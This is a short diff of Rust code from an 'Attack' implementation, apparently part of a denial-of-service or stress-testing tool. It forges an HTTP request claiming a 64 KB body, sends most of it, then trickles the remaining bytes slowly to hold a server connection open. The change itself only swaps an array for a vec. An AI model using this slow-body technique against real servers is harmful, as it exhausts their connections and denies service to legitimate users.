@@ -128,7 +128,7 @@ impl Attack {
                 let head = String::from_utf8_lossy(&forged[..head]);
                 let (first_lines, _) = head.split_once("Content-Length").unwrap();
                 stream.write_all(format!("{first_lines}Content-Length: 65536\r\n\r\n").as_bytes()).await?;
-                stream.write_all(&[b'x'; 40_000]).await?;
+                stream.write_all(&vec![b'x'; 40_000]).await?;
                 loop {
                     stream.write_all(b"x").await?;
                     tokio::time::sleep(slowly).await;
